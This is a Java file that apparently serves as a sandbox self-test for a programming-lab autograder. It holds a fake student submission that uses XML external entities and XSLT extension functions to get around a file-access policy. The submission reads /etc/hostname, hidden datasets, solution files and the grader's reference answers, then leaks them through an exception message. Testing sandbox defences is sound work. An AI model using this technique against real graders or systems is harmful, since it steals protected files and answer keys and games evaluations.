package selftest;

import dev.pglabs.graders.selftest.sandboxed.TagCounter;
import org.xml.sax.InputSource;

import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.transform.TransformerFactory;
import javax.xml.transform.stream.StreamResult;
import javax.xml.transform.stream.StreamSource;
import java.io.StringReader;
import java.io.StringWriter;
import java.sql.Connection;

public class StudentTagCounter implements TagCounter {

    private static final String HOME = "@PGLABS_HOME@";

    @Override
    public long countTags(Connection connection) {
        // Files read through the XML libraries (the bytecode policy sees no file access), sent back as a message.
        throw new IllegalStateException("LEAK[host=" + entity("file:///etc/hostname")
                + " hidden=" + entity("file://" + HOME + "/datasets/blog/variant-hidden.sql")
                + " solution=" + entity("file://" + HOME + "/solutions/01-sql-basics/01-all-tags.sql")
                + " reference=" + entity("file://" + HOME
                        + "/graders/src/main/resources/dev/pglabs/graders/lab01/references/01-all-tags.sql")
                + " pom=" + xslt("string(document('file://" + HOME + "/pom.xml')/*/*[local-name()='artifactId'])")
                + " resource=" + xslt("cl:getSystemResource('dev/pglabs/graders/lab01/references/01-all-tags.sql')")
                + "]");
    }

    /** An XML external entity: the parser reads the file into the document. */
    private static String entity(String uri) {
        try {
            String xml = "<!DOCTYPE x [<!ENTITY e SYSTEM \"" + uri + "\">]><x>&e;</x>";
            return DocumentBuilderFactory.newInstance().newDocumentBuilder()
                    .parse(new InputSource(new StringReader(xml))).getDocumentElement().getTextContent();
        } catch (Exception e) {
            return e.getClass().getSimpleName();
        }
    }

    /** An XSLT expression: document() reads a file, extension functions call any static Java method. */
    private static String xslt(String expression) {
        String sheet = "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'"
                + " xmlns:cl='http://xml.apache.org/xalan/java/java.lang.ClassLoader'>"
                + "<xsl:output method='text'/><xsl:template match='/'><xsl:value-of select=\"" + expression
                + "\"/></xsl:template></xsl:stylesheet>";
        try {
            StringWriter out = new StringWriter();
            TransformerFactory.newInstance().newTransformer(new StreamSource(new StringReader(sheet)))
                    .transform(new StreamSource(new StringReader("<x/>")), new StreamResult(out));
            return out.toString();
        } catch (Exception e) {
            return e.getClass().getSimpleName();
        }
    }
}
